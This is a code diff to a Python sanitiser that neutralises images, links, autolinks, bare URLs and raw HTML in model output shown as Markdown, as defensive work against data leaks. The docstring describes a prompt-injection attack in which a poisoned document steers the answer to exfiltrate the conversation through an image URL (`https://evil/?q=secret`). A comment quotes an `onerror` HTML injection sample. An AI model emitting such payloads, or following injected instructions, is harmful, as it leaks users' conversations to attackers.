@@ -1,9 +1,11 @@
 """Model output is shown as Markdown in a browser: neutralise what could leak data or run there.
 
 A Markdown image loads its URL as soon as it is rendered, so an answer steered by a poisoned document can send
-the conversation to an attacker's server (`![x](https://evil/?q=secret)`): images never render, whatever their URL
-(a poisoned source may hold the attacker's URL itself). Links survive only when their URL appears in the sources the
-answer was built from (a click is the reader's choice, and the source shows the same URL); raw HTML is escaped.
+the conversation to an attacker's server (`![x](https://evil/?q=secret)`), and a link's label can pass an
+attacker's page off as the manual. So nothing in an answer loads or links anywhere: images are removed, whatever their
+URL (a poisoned source may hold the attacker's URL itself); a link keeps its label, followed by its URL as code when
+that URL is in the sources the answer was built from (else the URL, which may carry data out, is dropped); bare URLs
+and autolinks become code; raw HTML is escaped.
 """
 
 from __future__ import annotations
@@ -13,7 +15,8 @@ from collections.abc import Iterable, Iterator
 
 _IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
 _LINK = re.compile(r"(?<!!)\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
-_REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*(\S+).*$", re.MULTILINE)
+# The whole line goes, URL or not (CommonMark lets the URL follow on the next line), and never more than the line.
+_REFERENCE_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:.*$", re.MULTILINE)
 _AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]+)>", re.IGNORECASE)
 # Every "<" that could open a tag is escaped, closed or not: a tag may span lines (`<img\nsrc=x onerror=…>`), and
 # escaping its bracket is enough, line by line, whatever follows.
@@ -40,14 +43,14 @@ def sanitise_markdown(text: str, allowed: set[str] = frozenset()) -> str:
 
     def link(match: re.Match) -> str:
         label, url = match.group(1), match.group(2)
-        return match.group(0) if url in allowed else label
+        return f"{label} (`{url}`)" if url in allowed else label
 
     text = _IMAGE.sub(image, strip_invisible(text))  # hidden characters would carry data out unseen
     text = _LINK.sub(link, text)
-    text = _REFERENCE_DEFINITION.sub(lambda m: m.group(0) if m.group(1) in allowed else "", text)
-    text = _AUTOLINK.sub(lambda m: m.group(0) if m.group(1) in allowed else f"`{m.group(1)}`", text)
+    text = _REFERENCE_DEFINITION.sub("", text)
+    text = _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", text)
     text = _HTML_OPEN.sub("&lt;", text)
-    return _BARE_URL.sub(lambda m: m.group(1) if m.group(1) in allowed else f"`{m.group(1)}`", text)
+    return _BARE_URL.sub(lambda m: f"`{m.group(1)}`", text)
 
 
 def sanitise_stream(pieces: Iterable[str], allowed: set[str] = frozenset()) -> Iterator[str]:
